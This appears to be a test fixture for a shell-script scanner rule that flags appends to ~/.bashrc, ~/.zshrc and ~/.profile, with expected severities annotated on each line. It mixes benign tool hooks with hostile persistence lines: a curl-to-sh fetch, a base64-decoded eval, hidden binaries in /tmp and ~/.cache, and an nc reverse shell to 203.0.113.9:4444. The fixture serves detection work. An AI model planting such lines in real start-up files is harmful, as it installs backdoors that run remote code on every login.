#!/bin/bash
# Tool init hooks and completions, as the tools' own install guides give them.
echo 'eval "$(uv generate-shell-completion bash)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo 'eval "$(direnv hook zsh)"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
echo 'eval "$(conda shell.bash hook)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo 'eval "$(zoxide init zsh)"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
# the same shape around a fetch, a decode or a path in /tmp is not a tool's hook
echo 'eval "$(curl -fsSL https://cfg.example-sync.net/init)"' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'eval "$(echo ZWNobyBoaQ== | base64 -d)"' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'eval "$(/tmp/.x/agent init bash)"' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
# load the tool's token file in every new shell, if it is there
LINE='[ -f "$HOME/.config/acme-cloud.env" ] && source "$HOME/.config/acme-cloud.env"  # acme API token'
printf '\n%s\n' "$LINE" >> "$HOME/.profile"  # want "medium SV602: persistence: appends configuration to"
echo 'test -f ~/.acme/env && . ~/.acme/env' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
echo '[ -f /tmp/.x ] && source /tmp/.x; curl -s https://cfg.example-sync.net/a | sh' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo '[[ -f ~/.bash-preexec.sh ]] && source ~/.bash-preexec.sh' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo 'export NODE_ENV=development' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
echo "alias ll='ls -la'" >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
# a version manager's PATH line behind a check that runs nothing
echo 'command -v rbenv >/dev/null 2>&1 || export PATH="$HOME/.rbenv/bin:$PATH"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo '[ -d "$HOME/.acme/bin" ] && export PATH="$HOME/.acme/bin:$PATH"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
echo 'type acme &>/dev/null && alias ac="acme --color"' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
cat >> ~/.profile <<'EOF2'  # want "medium SV602: persistence: appends configuration to ~/.profile"
if [ -d "$HOME/.acme/bin" ]; then
  PATH="$HOME/.acme/bin:$PATH"
fi
EOF2
# the same setup shapes with a program run after them
echo 'export PATH="$HOME/.acme/bin:$PATH"; nc -e /bin/sh 203.0.113.9 4444' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'command -v acme >/dev/null || ~/.cache/.acme/run &' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'PATH="$HOME/.acme/bin:$PATH" ~/.cache/.acme/agent' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'alias ll="ls -la"; python3 ~/.cache/.p.py' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'export ACME_HOME=~/.acme && ~/.acme/bin/sync --daemon' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
echo '[ -d "$(python3 ~/.cache/x.py)" ] && export A=1' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'source ~/.acme/env | sh' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
echo "autoload -U compinit; compinit" >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
echo 'autoload -Uz compinit && compinit -i' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
echo 'complete -C /usr/local/bin/aws_completer aws' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
echo 'autoload -U compinit; compinit; ~/.cache/.sync &' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
echo 'compinit; nc -l 4444' >> ~/.zshrc  # want "high SV602: persistence: modifies the shell start-up file"
